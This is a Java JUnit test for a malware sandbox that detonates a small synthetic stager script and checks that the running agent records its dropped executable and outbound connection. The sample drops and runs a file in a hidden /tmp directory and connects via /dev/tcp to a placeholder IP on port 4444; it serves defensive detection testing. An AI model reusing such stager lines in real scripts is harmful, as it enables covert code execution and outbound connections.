package dev.kiroku.sandbox;

import dev.kiroku.agent.Agent;
import dev.kiroku.agent.AgentConfig;
import dev.kiroku.sandbox.detonate.BehaviourRules;
import dev.kiroku.sandbox.detonate.DetonationReport;
import dev.kiroku.sandbox.detonate.Detonator;
import dev.kiroku.sandbox.detonate.LiveEvents;
import dev.kiroku.sandbox.statics.ArchiveLimits;
import dev.kiroku.sandbox.statics.KnownBadHashes;
import dev.kiroku.sandbox.statics.StaticAnalyzer;
import dev.kiroku.sensor.linux.audit.AuditControl;
import dev.kiroku.sensor.linux.audit.AuditLock;
import dev.kiroku.sensor.linux.audit.AuditSourceConfig;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.InstantSource;
import java.util.List;
import java.util.concurrent.TimeUnit;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A detonation while another Kiroku agent is recording the machine and holds audit (as in
 * {@code ./kiroku demo}): the sandbox starts no agent of its own, takes the sample's behaviour from
 * the running agent's events, and leaves that agent's audit rules in place. Needs root.
 */
@Timeout(value = 15, unit = TimeUnit.MINUTES)
class LiveRecordingTest {
    @TempDir
    Path dir;

    @Test
    void detonationTakesFullEvidenceFromTheRunningAgent() throws Exception {
        LiveEvents live = new LiveEvents();
        try (AuditLock lock = AuditLock.acquire(Duration.ofMinutes(10));
             Agent agent = new Agent(AgentConfig.defaults(dir.resolve("agent"), "kiroku-live-test")
                     .withFileWatchPaths(List.of(dir)).withSensors(new AgentConfig.Sensors(true, true, true, false)),
                     InstantSource.system())) {
            agent.start(live::accept);
            live.attach();
            long rulesBefore = kirokuRules();
            BuiltInAnalyzer analyzer = new BuiltInAnalyzer(
                    new StaticAnalyzer(StaticAnalyzer.builtInChecks(KnownBadHashes.empty()), ArchiveLimits.defaults()),
                    new Detonator(dir.resolve("runs"), Detonator.Settings.defaults(), BehaviourRules.builtIn(), live),
                    32 << 20, InstantSource.system());
            Path sample = dir.resolve("stager.sh");
            Files.writeString(sample, String.join("\n",
                    "#!/bin/sh",
                    "mkdir -p /tmp/.stage",
                    "printf '#!/bin/sh\\nid\\n' > /tmp/.stage/next.sh",
                    "chmod +x /tmp/.stage/next.sh",
                    "/tmp/.stage/next.sh",
                    "timeout 3 bash -c 'echo hi > /dev/tcp/203.0.113.7/4444'",
                    ""));

            Report report = analyzer.analyze(Sample.of(sample), AnalysisOptions.defaults().withTimeLimit(Duration.ofSeconds(6)));

            DetonationReport d = report.detonation();
            assertThat(d.recording()).startsWith("the kiroku agent already recording this machine")
                    .doesNotContain("did not arrive", "no event of the sandbox");
            assertThat(d.processes()).extracting(DetonationReport.ProcessNode::commandLine)
                    .anySatisfy(c -> assertThat(c).contains("/tmp/.stage/next.sh"))
                    .anySatisfy(c -> assertThat(c).contains("/dev/tcp/203.0.113.7/4444"));
            assertThat(d.filesWritten()).anySatisfy(f -> {
                assertThat(f.path()).isEqualTo("/tmp/.stage/next.sh");
                assertThat(f.executable()).isTrue();
            });
            assertThat(d.connections()).anySatisfy(c -> {
                assertThat(c.seenBy()).isEqualTo("sensor");
                assertThat(c.destinationIp()).isEqualTo("203.0.113.7");
                assertThat(c.destinationPort()).isEqualTo(4444);
            });
            assertThat(d.connections()).anySatisfy(c -> assertThat(c.seenBy()).isEqualTo("sink"));
            assertThat(report.reasons()).extracting(Reason::code).contains("dynamic.dropped_executed", "dynamic.network.connect");
            assertThat(d.rules()).isNotEmpty();
            // the running agent's rules are still installed: no second agent came and deleted them on its way out
            assertThat(kirokuRules()).isEqualTo(rulesBefore).isPositive();
            assertThat(DetonationTest.leftovers()).isEmpty();
        }
    }

    private static long kirokuRules() throws Exception {
        try (AuditControl control = AuditControl.open()) {
            return control.listRules().stream().filter(r -> AuditSourceConfig.DEFAULT_KEY.equals(r.key())).count();
        }
    }
}
